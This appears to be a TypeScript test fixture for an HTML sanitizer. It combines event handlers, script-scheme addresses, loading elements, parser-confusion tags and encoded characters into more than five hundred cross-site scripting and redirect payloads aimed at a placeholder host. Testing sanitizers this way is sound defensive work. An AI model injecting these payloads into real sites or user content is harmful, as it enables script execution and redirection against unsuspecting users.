/*
 * Hostile texts, combined from parts: those that run call `window.ran`, those that load request `HOSTILE`. The parts
 * are known attack vectors: event handlers, script addresses, loading elements, tags that parsers close elsewhere, and
 * encoded characters.
 */
export const HOSTILE = 'https://hostile.invalid'

const call = 'window.ran=1'

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onbeforetoggle',
] as const

const carriers = [
  (handler: string) => `<img src="${HOSTILE}/i" ${handler}="${call}">`,
  (handler: string) => `<svg ${handler}="${call}"><animate ${handler}="${call}" attributeName="x"/></svg>`,
  (handler: string) => `<video src="${HOSTILE}/v" autoplay ${handler}="${call}"></video>`,
  (handler: string) => `<details open ${handler}="${call}"><summary>x</summary></details>`,
  (handler: string) => `<input autofocus ${handler}="${call}">`,
  (handler: string) => `<p tabindex=1 autofocus ${handler}="${call}">x</p>`,
  (handler: string) => `<strong ${handler.toUpperCase()}=${call}>x</strong>`,
  (handler: string) => `<a id=x tabindex=1 ${handler}=${call} style="animation:spin 1s">x</a>`,
  (handler: string) => `<body/${handler}=${call}>`,
  (handler: string) => `<li\n${handler}\n=\n'${call}'>x</li>`,
  (handler: string) => `"><img/src/${handler}=${call}>`,
  (handler: string) => `'-->"><svg/${handler}=${call}//`,
] as const

const schemes = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java&#10;script:${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;&#x61;vascript:${call}`,
  `\u0001javascript:${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>parent.ran=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=`,
  `//hostile.invalid/x`,
  `${HOSTILE}/x`,
] as const

const loaders = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<embed src="${address}">`,
  (address: string) => `<form action="${address}"><button>x</button></form>`,
  (address: string) => `<button formaction="${address}">x</button>`,
  (address: string) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address: string) => `<base href="${address}">`,
  (address: string) => `<link rel="stylesheet" href="${address}">`,
  (address: string) => `<svg><use href="${address}#x"/></svg>`,
  (address: string) => `<svg><a xlink:href="${address}"><text y="9">x</text></a></svg>`,
  (address: string) => `<math href="${address}">x</math>`,
  (address: string) => `<p style="background:url('${address}')">x</p>`,
  (address: string) => `<table background="${address}"><tr><td>x</td></tr></table>`,
  (address: string) => `<isindex action="${address}" type=image>`,
  (address: string) => `<img srcset="${address} 1x" alt="x">`,
  (address: string) => `<script src="${address}"></script>`,
  (address: string) => `<video><source src="${address}"></video>`,
] as const

const scripts = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script\n>${call}</script\n>`,
  `<script/x>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `<script>${call}`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script xlink:href="data:,${call}"></script></svg>`,
  `<math><mtext><script>${call}</script></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<textarea><img title="</textarea><img src=x onerror=${call}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${call}>"></title>`,
  `<style><img title="</style><img src=x onerror=${call}>"></style>`,
  `<xmp><img title="</xmp><img src=x onerror=${call}>"></xmp>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!--<img src="--><img src=x onerror=${call}//">`,
  `<![CDATA[><img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${call}>`,
  `<math><mi><table><mglyph><style><img title="</style><img src=x onerror=${call}>"></table></mi></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>"></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}></style></mtext></form>`,
  `<select><template><img src=x onerror=${call}></template></select>`,
  `<template><script>${call}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${call}></template></div>`,
  `<a href="x" target="_self" ping="${HOSTILE}/ping">x</a>`,
  `<p id="root">x</p><p name="defaultView">x</p>`,
  `<form id="cookie"><input name="body"></form>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `\u003cscript\u003e${call}\u003c/script\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `</script><script>${call}</script>`,
  `</textarea></title></style><script>${call}</script>`,
  `" autofocus onfocus="${call}`,
  `' onmouseover='${call}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${call}>`,
] as const

/** Addresses that a browser may make something of, though they are none of the four kinds that links may have. */
const addresses = [
  ...schemes,
  `javascript&colon;${call}`,
  `java&Tab;script:${call}`,
  `java&NewLine;script:${call}`,
  `&#1;&#32;javascript:${call}`,
  `feed:javascript:${call}`,
  `view-source:javascript:${call}`,
  `javascript://hostile.invalid/%0a${call}`,
  `/\\hostile.invalid`,
  `\\\\hostile.invalid`,
  `/&#92;hostile.invalid`,
  `/&Tab;/hostile.invalid`,
  `&#47;&#47;hostile.invalid`,
  `/.//hostile.invalid`,
  `https:hostile.invalid`,
  `https:///hostile.invalid`,
  `https://plon.example@hostile.invalid/`,
  `https://plon.example\\@hostile.invalid/`,
  `https\uff1a//hostile.invalid`,
  `https://host\u0456le.invalid`,
  `mailto:a@hostile.invalid?body=x`,
  `tel:*21*600700800#`,
  `blob:${HOSTILE}/x`,
  `filesystem:${HOSTILE}/x`,
  `/x&quot; onclick=&quot;${call}`,
  `/x&#34;&#62;&#60;img src=x onerror=${call}&#62;`,
] as const

const links = [
  (address: string) => `<p><a href="${address}">x</a></p>`,
  (address: string) => `<p><a target="_self" rel="opener" ping="${HOSTILE}" href='${address}'>x`,
  (address: string) => `<a href="/nagrody"><a href="${address}" onclick=${call}><h3>x</h3></a>`,
] as const

/** More than five hundred different payloads. */
export const payloads: readonly string[] = [
  ...new Set([
    ...handlers.flatMap((handler) => carriers.map((wrap) => wrap(handler))),
    ...schemes.flatMap((scheme) => loaders.map((load) => load(scheme))),
    ...addresses.flatMap((address) => links.map((link) => link(address))),
    ...scripts,
    ...scripts.map((script) => `<p><strong>${script}</strong></p>`),
    ...scripts.map((script) => `<h3>${script}</h3>`),
    ...scripts.map((script) => `<ul><li>${script}`),
    ...scripts.map((script) => script.replaceAll('<', '<\u0000')),
  ]),
]

/** The payloads in parts of a given size. */
export function partsOf(size: number): string[][] {
  const parts: string[][] = []
  for (let at = 0; at < payloads.length; at += size) parts.push(payloads.slice(at, at + size))
  return parts
}
